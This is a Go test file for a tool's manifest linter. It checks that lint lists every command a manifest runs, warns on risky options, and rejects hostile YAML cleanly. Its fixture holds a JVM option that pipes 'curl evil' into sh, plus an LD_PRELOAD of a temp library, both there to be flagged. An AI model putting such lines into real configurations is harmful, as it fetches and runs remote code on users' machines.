package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/threadlab/threadlab/experiments"
)

// trustManifest runs a program of its own and sets a JVM option that runs
// a shell command.
const trustManifest = `name: trust
title: t
question: q
variants:
  platform: {target: spring-mvc, jvm: ["-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'"]}
  own: {command: [./server, --port, "{port}"]}
load: {model: closed, users: 10, duration: 2s, requests: [{path: /}]}
trials: 3
`

// TestLintShowsCommands: lint prints every command a manifest runs and
// warns on JVM options that run programs, so a reviewer sees them.
func TestLintShowsCommands(t *testing.T) {
	dir := t.TempDir()
	f := filepath.Join(dir, "trust.yaml")
	src := trustManifest + `profiles:
  full: {variants: {own: {env: {LD_PRELOAD: /tmp/x.so}}}}
`
	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	var out, errOut bytes.Buffer
	if err := runLint(context.Background(), []string{f}, &out, &errOut); err != nil {
		t.Fatalf("lint: %v\n%s", err, out.String())
	}
	for _, want := range []string{
		f + ": variants.platform.jvm: runs: $JAVA_HOME/bin/java '-XX:OnOutOfMemoryError=sh -c '\\''curl evil | sh'\\''' -jar env/targets/spring-mvc/target/spring-mvc.jar --server.port={port}",
		f + ": variants.own.command: runs: ./server --port {port}",
		f + `: variants.platform.jvm[0]: warning: JVM option "-XX:OnOutOfMemoryError=sh -c 'curl evil | sh'" runs a shell command when the heap runs out`,
		// What a profile changes is shown too: lint reviews every profile.
		f + ": variants.own.command: runs: env LD_PRELOAD=/tmp/x.so ./server --port {port} (with --profile full)",
		f + ": variants.own.env.LD_PRELOAD: warning: LD_PRELOAD loads a native library into the process: review it like code (a manifest is code; see Trust model in README.md) (with --profile full)",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("lint output lacks\n%s\ngot:\n%s", want, out.String())
		}
	}
}

// TestLintHostile: a hostile manifest fails lint with every problem named
// by file, line, column and field, and no stack trace.
func TestLintHostile(t *testing.T) {
	f := filepath.Join("..", "..", "experiments", "testdata", "hostile", "alias-bomb.yaml")
	var out, errOut bytes.Buffer
	err := runLint(context.Background(), []string{f}, &out, &errOut)
	if err == nil || !strings.Contains(err.Error(), "1 of 1 manifest(s) invalid") {
		t.Fatalf("lint of an alias bomb: %v", err)
	}
	if !strings.HasPrefix(out.String(), f+":3:") || !strings.Contains(out.String(), "more than 20000 YAML nodes") || strings.Contains(out.String(), "goroutine") {
		t.Errorf("output:\n%s", out.String())
	}
}

// TestRunShowsOwnCommands: run prints the programs of the manifest's own
// before starting anything, and so does a resume, whose manifest.yaml came
// with its data directory (publishing-safety: "resuming a foreign data dir
// runs its manifest.yaml"); a resumed manifest's risky options, never
// linted by that run, are printed as warnings.
func TestRunShowsOwnCommands(t *testing.T) {
	src := trustManifest
	run := t.TempDir()
	f := filepath.Join(run, "manifest.yaml")
	if err := os.WriteFile(f, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	m, err := experiments.Load(f, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		why     string
		m       *experiments.Manifest
		want    []string
		notWant string
	}{
		{"a new run: its lint warnings are printed by run already", m,
			[]string{f + ": variants.own.command: runs: ./server --port {port}"}, "OnOutOfMemoryError"},
		{"a resume: the run directory's manifest, with its warnings", nil,
			[]string{f + ": variants.own.command: runs: ./server --port {port}", "OnOutOfMemoryError"}, ""},
	} {
		var b strings.Builder
		printOwnCommands(&b, c.m, run)
		for _, w := range c.want {
			if !strings.Contains(b.String(), w) {
				t.Errorf("%s: printed %q, lacks %q", c.why, b.String(), w)
			}
		}
		if c.notWant != "" && strings.Contains(b.String(), c.notWant) {
			t.Errorf("%s: printed %q, which run prints once already", c.why, b.String())
		}
		if strings.Contains(b.String(), "spring-mvc.jar") {
			t.Errorf("%s: printed a built-in target's java line: %q", c.why, b.String())
		}
	}
	var b strings.Builder
	printOwnCommands(&b, nil, filepath.Join(t.TempDir(), "gone"))
	if b.Len() != 0 {
		t.Errorf("a resume without a manifest printed %q; pipeline.Run reports it", b.String())
	}
}

// TestLintProfileProblemsCapped: a profile's problems, which lint prints
// one by one with the profile named, keep the cap of 20 like any file's.
func TestLintProfileProblemsCapped(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "..", "experiments", "testdata", "hostile", "duplicate-key.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	m := strings.Replace(string(b), "trials: 4\n", "", 1) + "profiles:\n  p:\n    load: {requests: [" +
		strings.Repeat("{path: nope}, ", 29) + "{path: nope}]}\n"
	f := filepath.Join(t.TempDir(), "m.yaml")
	if err := os.WriteFile(f, []byte(m), 0o644); err != nil {
		t.Fatal(err)
	}
	var out, errb bytes.Buffer
	if code := run(context.Background(), []string{"lint", f}, &out, &errb); code != 1 {
		t.Fatalf("exit %d, want 1 (the profile is invalid)\n%s%s", code, out.String(), errb.String())
	}
	if n := strings.Count(out.String(), "must start with /"); n != 20 {
		t.Errorf("%d of the profile's 30 problems listed, want 20:\n%s", n, out.String())
	}
	if !strings.Contains(out.String(), "... and 10 more problem(s): fix these first and run again (with --profile p)") {
		t.Errorf("no line counts the other 10:\n%s", out.String())
	}
}
